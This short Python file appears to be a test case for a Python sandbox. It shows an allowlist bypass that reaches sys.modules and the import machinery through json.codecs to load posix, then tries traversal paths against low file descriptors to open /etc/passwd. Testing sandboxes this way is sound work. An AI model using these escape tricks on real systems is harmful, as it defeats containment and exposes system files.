# trick: open names relative to every low descriptor, as if a folder were open there already
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    posix = reach("posix")
    found = []
    for fd in range(0, 40):
        for name in (".", "..", "/", "etc/passwd", "../etc/passwd", "../../../../../../etc/passwd", ""):
            try:
                new = posix.open(name, 0, dir_fd=fd)
            except (OSError, NotImplementedError, TypeError):
                continue
            found.append(f"open({name!r}, dir_fd={fd})")
            posix.close(new)
    try:
        new = posix.open("/etc/passwd", 0)
        found.append("opened without a folder")
        posix.close(new)
    except OSError:
        pass
    return found
